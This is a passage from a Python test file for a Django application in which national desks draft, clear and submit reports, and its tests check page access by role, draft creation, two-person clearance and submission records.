    # nothing is known about the duty any longer, and a new version can still complete it
    assert "Report on the measures taken" in client.get(address(draft)).content.decode()
    later = actions.start_new_version(by=None, draft=draft)
    form = SubmitForm(draft=later)
    assert (DUTY, "report on the measures taken, baseline evaluation") in form.fields["duty"].choices


# --- Pages ------------------------------------------------------------------------------------------------------------


def test_another_desk_does_not_find_a_draft_and_a_reader_is_refused(client, report, desk):
    draft = make_draft(report, desk)
    edited = make_edited_file(draft, desk)
    addresses = [
        address(draft), address(draft, "sections", "s1"), address(draft, "draft.docx").removesuffix("/"),
        address(draft, "upload", edited.public_id), address(draft, "clear"), address(draft, "submit"),
        "/en/report-drafts/XA/", "/en/report-drafts/XA/new/",
    ]  # fmt: skip
    sign_in(client, make_account(Role.NATIONAL_DESK, state="XB"))
    assert {client.get(one).status_code for one in addresses} == {404}
    assert client.get(address(draft).replace("/XA/", "/XB/")).status_code == 404
    sign_in(client, make_account(Role.SECRETARIAT))
    assert {client.get(one).status_code for one in addresses} == {403}
    sign_in(client, desk)
    assert {client.get(one).status_code for one in addresses} == {200}


def test_the_desk_creates_a_draft_on_the_page_and_sees_it_in_the_list(client, report, desk):
    sign_in(client, desk)
    data = {"form": "report-back", "report": report.pk, "variant": "short", "language": "nb", "title": "Rapport 2026"}
    page = client.post("/en/report-drafts/XA/new/", data, follow=True).content.decode()
    assert "Rapport 2026" in page
    assert "We have not seen the printed forms." in page
    assert "Rapport 2026" in client.get("/en/report-drafts/XA/").content.decode()
    draft = models.Draft.objects.get()
    assert (draft.variant, draft.language, draft.created_by) == ("short", "nb", desk)
    wrong = client.post("/en/report-drafts/XA/new/", {**data, "report": ""})
    assert wrong.status_code == 409
    assert "Choose the report whose recommendations it answers." in wrong.content.decode()


def test_clearing_and_submitting_on_the_pages_record_the_offices(client, report, desk, colleague):
    draft = make_draft(report, desk)
    sign_in(client, desk)
    row = draft.sections.get(section_id="s1")
    client.post(address(draft, "sections", "s1"), {"seen": row.version, "remains-new": "By 2027."})
    client.post(address(draft, "written"))
    refused = client.post(address(draft, "clear"), {"name": "N", "office": "O"})
    assert refused.status_code == 409
    assert "Ask another member of the national desk to clear it." in refused.content.decode()
    sign_in(client, colleague)
    client.post(address(draft, "clear"), {"name": "A. Name", "office": "Ministry of Justice"})
    assert "A. Name, on behalf of Ministry of Justice" in client.get(address(draft)).content.decode()
    client.post(address(draft, "submit"), {"on_behalf_of": "Government of Nordmark"})
    submission = models.Submission.objects.get()
    assert (submission.cleared_for, submission.on_behalf_of) == ("Ministry of Justice", "Government of Nordmark")
    assert "can no longer be changed" in client.get(address(draft, "sections", "s1")).content.decode()


def test_the_page_of_a_draft_of_many_sections_needs_few_queries(client, desk, django_assert_max_num_queries):
    report = make_report(reading=make_reading([make_finding(number) for number in range(1, 41)]))
    measure = make_measure()
    for number in range(1, 41):
        link_answer(by=None, measure=measure, finding=finding_of(report, str(number)))
    draft = make_draft(report, desk)
    sign_in(client, desk)
    client.get(address(draft))
    with django_assert_max_num_queries(24):
        client.get(address(draft))


def test_the_desk_shows_drafts_until_they_are_submitted(client, report, desk):
    draft = make_draft(report, desk, title="Draft on the desk")
    sign_in(client, desk)
    assert "Draft on the desk" in client.get("/en/countries/XA/desk/").content.decode()
    make_submission(draft)
    assert "Draft on the desk" not in client.get("/en/countries/XA/desk/").content.decode()
